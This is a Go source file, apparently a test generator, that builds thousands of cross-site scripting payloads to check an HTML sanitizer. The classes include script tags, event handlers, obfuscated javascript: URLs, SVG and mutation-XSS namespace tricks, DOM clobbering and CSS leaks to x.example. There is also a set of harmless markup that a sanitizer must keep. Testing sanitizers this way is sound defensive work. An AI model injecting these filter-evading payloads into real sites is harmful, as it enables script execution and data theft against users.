package main

import (
	"fmt"
	"math/rand/v2"
	"strings"
)

// call is the script of every payload: the harness sees that it ran.
const call = "alert(1)"

func htmlRows() []Row {
	var rows []Row
	for _, class := range []struct {
		name string
		make func() []string
	}{
		{"script element", scriptElements},
		{"event handler", eventHandlers},
		{"event handler behind a broken attribute", brokenAttributes},
		{"script URL", scriptURLs},
		{"data URL", dataURLs},
		{"SVG", svgVectors},
		{"namespace confusion", namespaces},
		{"comment and markup declaration", comments},
		{"raw text element", rawText},
		{"document element", documentElements},
		{"style", styles},
		{"clobbering", clobbering},
		{"leaving the container", containers},
		{"odd bytes", oddBytes},
		{"size", sizes},
		{"harmless markup", harmless},
		{"grammar", grammar},
	} {
		for _, p := range class.make() {
			rows = append(rows, Row{Class: class.name, Payload: p})
		}
	}
	return rows
}

func scriptElements() (all []string) {
	for _, name := range []string{"script", "SCRIPT", "ScRiPt", "script/", "script\t", "script\n", "script\f", "script x", "script x=\"", "script type=module", "script src=data:,alert(1)"} {
		for _, end := range []string{"</script>", "</SCRIPT >", "</script/x>", "</script\n>", ""} {
			all = append(all, "<"+name+">"+call+end)
		}
	}
	for _, wrap := range []string{"a<b<%s>", "<<%s>>", "<%s<", "<scr<script>ipt>%.0s", "<%s>//", "<svg><%s>", "<math><%s>", "<table><%s>", "<select><%s>", "<template><%s></template>", "<noscript><%s></noscript>", "<p title='<%s>'>", "<!--><%s>-->", "<![CDATA[<%s>]]>", "<?<%s>?>"} {
		all = append(all, fmt.Sprintf(wrap, "script>"+call+"</script"))
	}
	return all
}

// handlers are attributes with a script, and what makes a browser run them.
var handlers = []struct{ element, attribute string }{
	{"img src=x", "onerror"}, {"img src=/", "onerror"}, {"image src=x", "onerror"}, {"video src=x", "onerror"}, {"audio src=x", "onerror"},
	{"video><source", "onerror"}, {"body", "onload"}, {"svg", "onload"}, {"iframe", "onload"}, {"iframe srcdoc=x", "onload"},
	{"input autofocus", "onfocus"}, {"select autofocus", "onfocus"}, {"textarea autofocus", "onfocus"}, {"button autofocus", "onfocus"},
	{"a href=# autofocus", "onfocus"}, {"div tabindex=0 autofocus", "onfocus"}, {"details open", "ontoggle"}, {"style", "onload"},
	{"link rel=stylesheet href=data:,", "onload"}, {"object data=x", "onerror"}, {"embed src=x", "onload"}, {"marquee", "onstart"},
	{"p", "onclick"}, {"b", "onmouseover"}, {"form", "onsubmit"}, {"div", "onpointerenter"}, {"input value=x", "oninput"}, {"td", "onclick"},
	{"p contenteditable", "onbeforeinput"}, {"dialog open", "onclose"}, {"x-y", "onclick"}, {"blink", "onanimationstart"}, {"div", "ONCLICK"},
}

func eventHandlers() (all []string) {
	quotes := []string{`=%s`, `="%s"`, `='%s'`, " = %s", "\n=\n%s", "=`%s`", `="%s`, "\x0c=%s"}
	separators := []string{" ", "/", "\t", "\n", "\x0c", " / ", "\"", "'"}
	scripts := []string{call, "&#97;lert(1)", "&#x61;lert&lpar;1)", "javascript:" + call, "top['al'+'ert'](1)", "\\u0061lert(1)", "alert`1`", "1;" + call}
	for i, h := range handlers {
		for j, q := range quotes {
			s, sep := scripts[(i+j)%len(scripts)], separators[(i*3+j)%len(separators)]
			all = append(all, "<"+h.element+sep+h.attribute+fmt.Sprintf(q, s)+">")
		}
		all = append(all, "<"+h.element+" "+h.attribute+"="+call+"//", "<"+strings.ToUpper(h.element)+" "+h.attribute+"="+call+">")
	}
	return all
}

func brokenAttributes() (all []string) {
	for _, left := range []string{
		`<img title="a" b="`, `<img alt='a'b'`, "<img x=`y`", `<a href="x"onclick=1 y="`, `<img a="b"c="d"`, `<img "`, `<img '`, `<img =`, `<img a==`, `<img a=b=c`,
		`<img/a/b/`, `<img src="x" src="y"`, `<img a="&quot;`, `<img a="&#34;`, `<img a="\"`, `<img a="b
`, `<img a=">" `, `<img a='<' `, `<img <b `, `<img a=b>c" `, `<p title="</p><img `, `<p title='<!--' `, `<p id="` + "\x00" + `" `,
	} {
		for _, right := range []string{` src=x onerror=alert(1)>`, `" src=x onerror=alert(1) x="`, `' src=x onerror=alert(1) x='`, `><img src=x onerror=alert(1)>`} {
			all = append(all, left+right)
		}
	}
	return all
}

// schemes are ways to write "javascript:" that one parser or another reads so.
var schemes = []string{
	"javascript:", "JavaScript:", "JAVASCRIPT:", " javascript:", "\tjavascript:", "\njavascript:", "\x01javascript:", "\x1fjavascript:", "java\tscript:", "java\nscript:", "java\rscript:",
	"java&Tab;script:", "java&NewLine;script:", "java&#9;script:", "java&#x0A;script:", "java&#13;script:", "&#106;avascript:", "&#x6a;avascript:", "&#0000106avascript:", "&#x6Aavascript:",
	"javascript&colon;", "javascript&#58;", "javascript&#x3A;", "javascript&#58", "javascript&#0058", "j&#97v&#97script:", "java&#x00;script:", "java\x00script:", "javascript\x00:", "javascript :",
	"javascript\t:", "java%0ascript:", "%6aavascript:", "javascript%3a", "view-source:javascript:", "feed:javascript:", "jar:javascript:", "vbscript:", "livescript:", "mocha:", "\u2028javascript:", "\ufeffjavascript:",
	"java\u200bscript:", "ｊavascript:", "ſcript:", "javaſcript:", "javascript\u2236", "javascript：", "http:javascript:", "//javascript:", "./javascript:", "?javascript:", "#javascript:", "javascript://x.example/%0a",
}

// carriers are places where a URL may stand.
var carriers = []string{
	`<a href="%s">x</a>`, `<a href='%s'>x</a>`, `<a href=%s>x</a>`, `<area href="%s">`, `<form action="%s"><input type=submit>`, `<button formaction="%s">x</button>`,
	`<iframe src="%s"></iframe>`, `<embed src="%s">`, `<object data="%s"></object>`, `<img src="%s">`, `<input type=image src="%s">`, `<link rel=stylesheet href="%s">`, `<base href="%s">`,
	`<svg><a xlink:href="%s"><text y=9>x</text></a></svg>`, `<svg><use href="%s"/></svg>`, `<math href="%s">x</math>`, `<math><mi xlink:href="%s">x</mi></math>`, `<body background="%s">`, `<table background="%s">`,
	`<video poster="%s">`, `<blockquote cite="%s">x</blockquote>`, `<q cite="%s">x</q>`, `<del cite="%s">x</del>`, `<img srcset="%s 2x">`, `<source srcset="%s">`, `<a ping="%s" href="/">x</a>`, `<meta http-equiv=refresh content="0;url=%s">`,
	`<svg><animate attributeName=href values="%s"/></svg>`, `<svg><set attributeName=href to="%s"/></svg>`, `<svg><image href="%s"/></svg>`, `<img longdesc="%s">`, `<img usemap="%s">`, `<html manifest="%s">`, `<portal src="%s">`,
}

func scriptURLs() (all []string) {
	for i, s := range schemes {
		for j, c := range carriers {
			if j < 3 || (i+j)%6 == 0 {
				all = append(all, fmt.Sprintf(c, s+call))
			}
		}
	}
	return all
}

func dataURLs() (all []string) {
	for _, u := range []string{
		"data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
		"data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>", "DATA:text/html,&lt;script>alert(1)&lt;/script>", "data:;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
		"data:text/xml,<x/>", "data:image/png;base64,iVBORw0KGgo=", "data:image/gif;base64,R0lGODlhAQABAAAAACw=", "data:,x", "data:text/javascript,alert(1)", " data:text/html,x", "da\tta:text/html,x", "data&colon;text/html,x",
		"blob:https://x.example/1", "filesystem:https://x.example/1", "file:///etc/passwd", "about:srcdoc", "about:blank", "ws://x.example", "intent://x#Intent;end", "ms-office:x", "itms-services://?x",
	} {
		for j, c := range carriers {
			if j%3 == len(u)%3 {
				all = append(all, fmt.Sprintf(strings.ReplaceAll(c, `"%s"`, `"%s"`), strings.ReplaceAll(u, `"`, "&quot;")))
			}
		}
	}
	return all
}

func svgVectors() (all []string) {
	return append(all,
		`<svg><script>alert(1)</script></svg>`, `<svg><script href="data:,alert(1)"/></svg>`, `<svg><script xlink:href="data:,alert(1)"></script></svg>`, `<svg><script>alert&#40;1)</script>`, `<svg><g onload=alert(1)></g></svg>`,
		`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<svg><set onbegin=alert(1) attributeName=x>`, `<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a>`,
		`<svg><a><set attributeName=xlink:href to=javascript:alert(1)></set><text y=20>x</text></a>`, `<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>`,
		`<svg><foreignObject><body onload=alert(1)></foreignObject></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>`,
		`<svg><image href=x onerror=alert(1)></svg>`, `<svg><image xlink:href="javascript:alert(1)"/></svg>`, `<svg><style>@import url(javascript:alert(1));</style></svg>`, `<svg><style>*{x:expression(alert(1))}</style></svg>`,
		`<svg><handler type="text/javascript">alert(1)</handler>`, `<svg><discard onbegin=alert(1)>`, `<svg><title><img src=x onerror=alert(1)></title></svg>`, `<svg><desc><img src=x onerror=alert(1)></desc></svg>`,
		`<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>alert(1)</x:script></svg>`, `<?xml version="1.0"?><svg onload="alert(1)"/>`, `<!DOCTYPE svg [<!ENTITY x "alert(1)">]><svg onload="&x;"/>`,
		`<svg><filter><feImage href="javascript:alert(1)"/></filter></svg>`, `<svg><pattern xlink:href="javascript:alert(1)"/></svg>`, `<svg fill="url(javascript:alert(1))"/>`, `<svg><path d="M0 0" marker-end="url(//x.example#a)"/></svg>`,
		`<svg><circle r=9 style="fill:url('javascript:alert(1)')"/></svg>`, `<svg><metadata><script>alert(1)</script></metadata></svg>`, `<svg><view id=x viewTarget="javascript:alert(1)"/></svg>`, `<svg><cursor xlink:href="javascript:alert(1)"/></svg>`,
	)
}

// namespaces are documents that a sanitizer reads in one namespace and a browser
// in another, after it has been parsed and written a second time (mXSS).
func namespaces() (all []string) {
	inner := []string{`<img src=x onerror=alert(1)>`, `<a title="</style><img src=x onerror=alert(1)>">`, `<!--</style><img src=x onerror=alert(1)>-->`, `<mglyph><svg><mtext><textarea><path id="</textarea><img src=x onerror=alert(1)>">`, `<p id="</title><img src=x onerror=alert(1)>">`}
	for _, outer := range []string{
		"<svg><style>%s</style></svg>", "<math><style>%s</style></math>", "<svg></p><style>%s", "<math><mtext><table><mglyph><style>%s", "<form><math><mtext></form><form><mglyph><style>%s", "<math><annotation-xml encoding=text/html>%s",
		"<math><annotation-xml encoding=application/xhtml+xml><svg>%s", "<svg><title><svg>%s", "<svg><desc><math>%s", "<svg><foreignObject><math>%s", "<math><mi><style>%s", "<math><mo><svg><mtext>%s", "<math><ms><title>%s", "<table><math><select><mi>%s",
		"<svg><font color=red><style>%s", "<svg></br><style>%s", "<math><b><style>%s", "<svg><p><style>%s", "<svg><![CDATA[%s]]></svg>", "<math><!--%s", "<noscript><p title=\"</noscript>%s\">", "<noscript><style></noscript>%s", "<select><template>%s</template></select>",
		"<table><tr><td><svg><style>%s", "<svg><textarea>%s", "<svg><xmp>%s", "<math><noembed>%s", "<svg><noframes>%s", "<svg><plaintext>%s", "<option><style>%s</option>", "<svg><a><svg><style>%s", "<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><style>%s",
		"<svg><svg><desc><style>%s", "<b><svg></b><style>%s", "<frameset><svg><style>%s", "<h1><svg><h2><style>%s", "<nobr><nobr><math><style>%s", "<a><math><a><style>%s", "<dl><svg><dt><style>%s", "<ruby><rt><svg><rb><style>%s",
	} {
		for _, in := range inner {
			all = append(all, fmt.Sprintf(outer, in))
		}
	}
	return all
}

func comments() (all []string) {
	for _, open := range []string{"<!--", "<!-->", "<!--->", "<!---", "<!-- --!>", "<!-", "<!", "<?", "<?xml ", "</", "</ ", "<%", "<![CDATA[", "<!DOCTYPE ", "<!ENTITY ", "<!--[if IE]>", "<!-- -- >", "<!--\x00-->", "</script ", "</p "} {
		for _, end := range []string{"", ">", "-->", "--!>", "]]>", "?>", "--", "<![endif]-->"} {
			all = append(all, open+"<img src=x onerror=alert(1)>"+end)
		}
	}
	return all
}

func rawText() (all []string) {
	for _, name := range []string{"style", "title", "textarea", "xmp", "iframe", "noembed", "noframes", "noscript", "plaintext", "script", "template", "listing", "select", "option", "object", "math", "svg", "frameset", "head"} {
		all = append(all,
			"<"+name+"><img src=x onerror=alert(1)></"+name+">", "<"+name+"></"+name+" ><img src=x onerror=alert(1)>", "<"+name+"><"+name+"></"+name+"><img src=x onerror=alert(1)>",
			"<"+name+" a=\"</"+name+"><img src=x onerror=alert(1)>\">", "<"+name+"><!--</"+name+"><img src=x onerror=alert(1)>-->", "<"+strings.ToUpper(name)+">&lt;/"+name+"&gt;<img src=x onerror=alert(1)>",
			"</"+name+"><img src=x onerror=alert(1)>", "<"+name+"/><img src=x onerror=alert(1)>", "<b><"+name+"></b><img src=x onerror=alert(1)>")
	}
	return all
}

func documentElements() []string {
	return []string{
		`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`, `<meta http-equiv="Set-Cookie" content="a=b">`, `<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, `<meta http-equiv="Content-Security-Policy" content="">`,
		`<base href="javascript:alert(1)//">`, `<base href="//x.example/"><a href=y>z</a>`, `<base target=_top>`, `<link rel=import href="data:text/html,<script>alert(1)</script>">`, `<link rel=stylesheet href=//x.example/a.css>`, `<link rel=preload as=script href=//x.example/a.js>`,
		`<html onload=alert(1)>`, `<head><script>alert(1)</script></head>`, `<body onload=alert(1)>`, `<body onpageshow=alert(1)>`, `<frameset onload=alert(1)>`, `<frameset><frame src="javascript:alert(1)">`, `<applet code=x>`, `<bgsound src="javascript:alert(1)">`, `<isindex type=image src=x onerror=alert(1)>`,
		`<keygen autofocus onfocus=alert(1)>`, `<command onclick=alert(1)>`, `<menu><menuitem onclick=alert(1)>`, `<layer src=x>`, `<ilayer src=x>`, `<object classid="clsid:x"><param name=x value="javascript:alert(1)"></object>`, `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSkvPg==">`,
		`<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`, `<iframe srcdoc="<img src=x onerror=alert(1)>" sandbox>`, `<iframe src="data:text/html,<script>alert(1)</script>">`, `<fencedframe src=x>`, `<slot onslotchange=alert(1)>`, `<template shadowrootmode=open><script>alert(1)</script></template>`,
		`<div><template shadowrootmode=closed><img src=x onerror=alert(1)></template></div>`, `<dialog open onclose=alert(1)><form method=dialog><button>x`, `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>`, `<a href=x download>y</a>`, `<xml id=x><a>`, `<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`,
	}
}

func styles() (all []string) {
	for _, s := range []string{
		"background:url(javascript:alert(1))", "background:url('javascript:alert(1)')", "background:u\\72l(javascript:alert(1))", "width:expression(alert(1))", "width:exp/**/ression(alert(1))", "-moz-binding:url(//x.example/a.xml#b)", "behavior:url(a.htc)",
		"background:url(//x.example/?leak)", "background-image:image-set('//x.example/a' 1x)", "@import '//x.example/a.css'", "color:red;}</style><script>alert(1)</script>", "color:red\"onclick=alert(1)//", "position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999", "font-family:'a\\27;x:y'",
		"color:\\72 ed", "color:red/*", "/*</style>*/color:red", "content:'</style><img src=x onerror=alert(1)>'", "animation:x 1s", "list-style-image:url(javascript:alert(1))", "filter:url(//x.example#a)", "cursor:url(//x.example/a),auto", "--x:url(//x.example)", "color:var(--x)", "mask:url(//x.example)",
		"background:red url(data:image/svg+xml,<svg/onload=alert(1)>)", "width:calc(1px + attr(data-x))", "color:red;;;;", "color:red!important", "c\\6flor:red", "\x00color:red", "color:&#114;ed", "background:url(&quot;javascript:alert(1)&quot;)", "margin:-9999px", "opacity:0", "text-indent:-99999em", "unicode-bidi:bidi-override;direction:rtl",
	} {
		all = append(all, `<p style="`+strings.ReplaceAll(s, `"`, "&quot;")+`">x</p>`, "<style>p{"+s+"}</style><p>x", "<span style='"+strings.ReplaceAll(s, "'", "&#39;")+"'>x</span>")
	}
	return all
}

func clobbering() (all []string) {
	for _, name := range []string{"body", "cookie", "forms", "documentElement", "attributes", "parentNode", "innerHTML", "getElementById", "location", "__proto__", "constructor", "defaultView", "nodeName", "children", "submit", "action", "length", "config"} {
		all = append(all, "<img name="+name+">", "<a id="+name+"></a><a id="+name+" name=x href=//x.example>y</a>", "<form id="+name+"><input name="+name+"></form>", "<iframe name="+name+"></iframe>")
	}
	return all
}

func containers() (all []string) {
	for _, name := range []string{"div", "p", "span", "table", "td", "tr", "ul", "li", "a", "b", "form", "button", "select", "option", "article", "body", "html", "h1", "dl", "dt", "ruby", "rt", "svg", "math", "template", "textarea", "title", "style", "script"} {
		all = append(all, "</"+name+">x", "<"+name+">x", "x</"+name+"><"+name+">y", "<b></"+name+"></b>x", "<"+name+"><"+name+"><"+name+">x", "<table><"+name+">x", "<a><"+name+"><a>x")
	}
	return all
}

func oddBytes() (all []string) {
	for _, s := range []string{"\x00", "\x01", "\x0b", "\x0c", "\x1b", "\x7f", "\u0080", "\u00a0", "\u200b", "\u202e", "\u2028", "\ufeff", "\ufffd", "\uffff", "\U000e0041", "\r", "\r\n", "&#0;", "&#x80;", "&#xD800;", "&#x110000;", "&#99999999999;", "&nbsp", "&lt", "&ltx;", "&amp;lt;", "&notin;x", "&NotEqualTilde;", "&", "&#", "&#x", "&;"} {
		all = append(all, "<"+s+"img src=x onerror=alert(1)>", "<img"+s+"src=x onerror=alert(1)>", "<img src=x on"+s+"error=alert(1)>", "<img src=x onerror"+s+"=alert(1)>", "<a href=java"+s+"script:alert(1)>x</a>", "x"+s+"y", "<p title="+s+">x</p>", "<scr"+s+"ipt>alert(1)</script>")
	}
	return all
}

func sizes() []string {
	return []string{
		strings.Repeat("<b>", 300) + "x", strings.Repeat("<div>", 600) + "x", strings.Repeat("<a href=x>", 200), strings.Repeat("</p>", 500), strings.Repeat("<table><td>", 100), strings.Repeat("<svg><desc>", 80), strings.Repeat("<", 3000), strings.Repeat("&", 3000), strings.Repeat("&lt;", 500),
		"<p " + strings.Repeat("a ", 1000) + ">x", "<p title=\"" + strings.Repeat("x", 5000) + "\">y", "<" + strings.Repeat("x", 3000) + ">y", "<!--" + strings.Repeat("-", 3000), strings.Repeat("<!---->", 300), strings.Repeat("<form><button>", 100), strings.Repeat("<i><p></i>", 100), strings.Repeat("<select><option>", 100),
		"<p style=\"" + strings.Repeat("color:red;", 300) + "\">x", "<p class=\"" + strings.Repeat("a ", 1000) + "\">x", strings.Repeat("<li>", 300), strings.Repeat("<font>", 100) + strings.Repeat("</p>", 100),
	}
}

// harmless markup is what a sanitizer must not be afraid of.
func harmless() []string {
	return []string{
		"plain text", "a < b && c > d", "if (a<b) {}", "x<y", "1 < 2 > 0", "AT&T", "&amp; &copy; &eacute;", "\"quoted\" 'text'", "<p>one</p><p>two</p>", "<b>bold</b> <i>italic</i> <u>under</u>", "<ul><li>a</li><li>b</li></ul>", "<ol start=3><li value=5>a</ol>",
		"<a href=\"https://example.com/?a=1&amp;b=2#c\" title=\"t\">x</a>", "<a href=\"/path\">x</a>", "<a href=\"mailto:a@example.com\">x</a>", "<img src=\"https://example.com/a.png\" alt=\"a\" width=10 height=20>", "<table><tr><th>a<td align=right>b</table>", "<h1>t</h1><h2>u</h2>",
		"<blockquote cite=\"https://example.com\">q</blockquote>", "<pre><code class=\"language-go\">x := 1\n</code></pre>", "<p lang=fr dir=rtl>x</p>", "<details open><summary>s</summary>t</details>", "<abbr title=\"t\">a</abbr><time datetime=2026-01-02>d</time>", "<hr><br>", "Vec<String>", "std::vector<int>", "<3", "->", "<-", "<user@example.com>", "<https://example.com>",
		"日本語 <b>太字</b>", "العربية <i>مائل</i>", "<p>emoji 👩‍👩‍👧</p>", "<dl><dt>a<dd>b</dl>", "<ruby>漢<rt>kan</ruby>", "<sub>1</sub><sup>2</sup>", "<kbd>Ctrl</kbd>+<samp>x</samp>", "<figure><img src=/a.png><figcaption>c</figcaption></figure>", "<s>a</s><del>b</del><ins>c</ins><mark>d</mark>",
	}
}

// grammar makes random documents from pieces that are dangerous together.
func grammar() (all []string) {
	pieces := []string{
		"<svg>", "</svg>", "<math>", "</math>", "<style>", "</style>", "<title>", "</title>", "<table>", "</table>", "<tr>", "<td>", "<select>", "</select>", "<option>", "<template>", "</template>", "<noscript>", "</noscript>", "<form>", "</form>", "<p>", "</p>", "</br>", "<b>", "</b>", "<a href=x>", "</a>",
		"<mtext>", "<mglyph>", "<mi>", "<annotation-xml encoding=text/html>", "<desc>", "<foreignObject>", "<textarea>", "</textarea>", "<xmp>", "</xmp>", "<!--", "-->", "<![CDATA[", "]]>", "<img src=x onerror=alert(1)>", "<p title=\"", "\">", "x", "&lt;", "<div>", "</div>", "<li>", "<iframe>", "</iframe>", "<script>", "alert(1)", "</script>", "<font color=red>", "<h1>", "<button>", "<plaintext>", "<frameset>", "<body>",
	}
	random := rand.New(rand.NewPCG(1, 2))
	for range 1200 {
		var b strings.Builder
		for range 3 + random.IntN(9) {
			b.WriteString(pieces[random.IntN(len(pieces))])
		}
		all = append(all, b.String()+"<img src=x onerror=alert(1)>")
	}
	return all
}
